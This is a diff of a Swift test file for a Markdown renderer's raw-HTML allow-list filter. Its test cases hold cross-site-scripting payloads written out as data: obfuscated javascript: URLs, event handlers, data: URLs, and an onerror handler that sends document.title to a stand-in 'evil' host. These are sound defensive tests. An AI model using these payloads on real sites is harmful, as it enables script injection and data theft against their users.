@@ -32,12 +32,59 @@ import Testing
         #expect(html.contains("raw HTML omitted"))
     }
 
-    @Test func tagfilterEscapesDangerousTagsWhenRawHTMLIsAllowed() {
+    @Test func dangerousTagsAreShownAsTextWhenRawHTMLIsAllowed() {
         let html = Markdown.html("<b>ok</b> <script>alert(1)</script> <iframe src=x></iframe>\n", allowRawHTML: true)
         #expect(html.contains("<b>ok</b>"))
-        #expect(html.contains("&lt;script>"))
-        #expect(html.contains("&lt;iframe"))
-        #expect(!html.contains("<script>"))
+        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
+        #expect(html.contains("&lt;iframe&gt;&lt;/iframe&gt;"))
+        #expect(!html.contains("<script") && !html.contains("<iframe"))
+    }
+
+    /// Issue 14, point 5: event handlers, script URLs and styles survived
+    /// GFM's tagfilter; opting into raw HTML now means an allow-list.
+    @Test func rawHTMLKeepsOnlyListedTagsAttributesAndSafeURLs() {
+        let cases: [(source: String, expected: String)] = [
+            // The issue's exfiltration case: the handler goes, the image stays.
+            (
+                "<img src=\"x.png\" onerror=\"new Image().src='http://evil/?'+document.title\">",
+                "<img src=\"x.png\">"
+            ),
+            ("<a href=\"javascript:alert(1)\">go</a>", "<a>go</a>"),
+            // The scheme hidden behind references, case, tabs and a leading space.
+            ("<a href=\"&#106;ava&#x09;script&colon;alert(1)\">go</a>", "<a>go</a>"),
+            ("<a href=\" JaVaScRiPt:alert(1)\">go</a>", "<a>go</a>"),
+            ("<a href=\"&#0000106avascript:alert(1)\">go</a>", "<a>go</a>"),
+            ("<a href=\"data:text/html,<b>x</b>\">go</a>", "<a>go</a>"),
+            (
+                "<a href=\"https://crm.example.com/a?b=1&amp;c=2\" title='say \"hi\"'>go</a>",
+                "<a href=\"https://crm.example.com/a?b=1&amp;c=2\" title=\"say &quot;hi&quot;\">go</a>"
+            ),
+            ("<a href=\"../accounts/a1.html#notes\">go</a>", "<a href=\"../accounts/a1.html#notes\">go</a>"),
+            ("<a href=\"mailto:rep@example.com\">mail</a>", "<a href=\"mailto:rep@example.com\">mail</a>"),
+            ("<span style=\"background:url(http://evil/)\" class=\"note\">x</span>", "<span class=\"note\">x</span>"),
+            ("<div id=\"main\" onclick=\"x()\">x</div>", "<div>x</div>"),
+            ("<svg onload=\"x()\"><circle/></svg>", "&lt;svg&gt;&lt;circle&gt;&lt;/svg&gt;"),
+            ("<form action=\"http://evil/\"><input name=q></form>", "&lt;form&gt;&lt;input&gt;&lt;/form&gt;"),
+            (
+                "<object data=\"x\"></object><embed src=\"x\"><link rel=stylesheet href=x>",
+                "&lt;object&gt;&lt;/object&gt;&lt;embed&gt;&lt;link&gt;"
+            ),
+            ("<p>a<!-- hidden --> b</p>", "<p>a b</p>"),
+            ("<IMG SRC=\"x.png\" ALT=\"chart\" />", "<img src=\"x.png\" alt=\"chart\" />"),
+            (
+                "<details open><summary>More</summary>text</details>",
+                "<details open><summary>More</summary>text</details>"
+            ),
+        ]
+        for (source, expected) in cases {
+            #expect(RawHTMLFilter.filter(source) == expected, "\(source)")
+        }
+        // Through cmark: an HTML block and inline tags alike.
+        let block = Markdown.html("<div onmouseover=\"steal()\">\n\n**hi**\n\n</div>\n", allowRawHTML: true)
+        #expect(block == "<div>\n<p><strong>hi</strong></p>\n</div>\n")
+        let inline = Markdown.html("Call <a href=\"javascript:x()\" title=\"t\">now</a>.\n", allowRawHTML: true)
+        #expect(inline == "<p>Call <a title=\"t\">now</a>.</p>\n")
+        #expect(!Markdown.html("<img src=x onerror=alert(1)>\n", allowRawHTML: true).contains("onerror"))
     }
 
     @Test func escapesTextAndUnsafeLinks() {
